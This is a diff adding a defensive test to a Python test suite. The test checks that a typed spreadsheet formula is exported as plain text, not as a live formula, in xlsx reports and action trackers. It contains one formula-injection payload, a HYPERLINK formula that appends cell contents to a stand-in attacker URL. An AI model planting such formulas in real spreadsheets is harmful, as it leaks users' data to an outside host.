@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import re
+import zipfile
 from pathlib import Path
 from typing import Any
 
@@ -156,3 +157,30 @@ def test_what_is_typed_to_the_bot_comes_back_without_its_mentions(
                     assert hostile not in shown, (user, typed, reply)
     finally:
         w.close()
+
+
+def test_spreadsheets_keep_a_typed_formula_as_text(store_url: str, tmp_path: Path,
+                                                   mini_pack: dict[str, Any]) -> None:
+    """A comment or description typed as =HYPERLINK(...) is written as text in the report's
+    workbook and the action tracker, read back by a reader other than the writer."""
+    from python_calamine import CalamineWorkbook
+
+    formula = '=HYPERLINK("https://evil.example/?c="&A1,"Open the guidance")'
+    mini_pack["actions"][0]["description"] = formula
+    mini_pack["returns"][0]["concerns"]["4"] = formula
+    pack = tmp_path / "formula.json"
+    pack.write_text(json.dumps(mini_pack), encoding="utf-8")
+    run_cli("import", str(pack), url=store_url, check=True)
+    report, tracker = tmp_path / "report.xlsx", tmp_path / "tracker.xlsx"
+    run_cli("report", "mini-2026", "--format", "xlsx", "-o", str(report), url=store_url,
+            check=True)
+    run_cli("action", "list", "mini-2026", "--format", "xlsx", "-o", str(tracker),
+            url=store_url, check=True)
+    for path in (report, tracker):
+        with zipfile.ZipFile(path) as z:
+            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
+        assert not any("<f>" in s for s in sheets), path  # no formula anywhere
+        book = CalamineWorkbook.from_path(str(path))
+        cells = [str(v) for name in book.sheet_names
+                 for row in book.get_sheet_by_name(name).to_python() for v in row]
+        assert any(formula in v for v in cells), path  # the text itself, shown
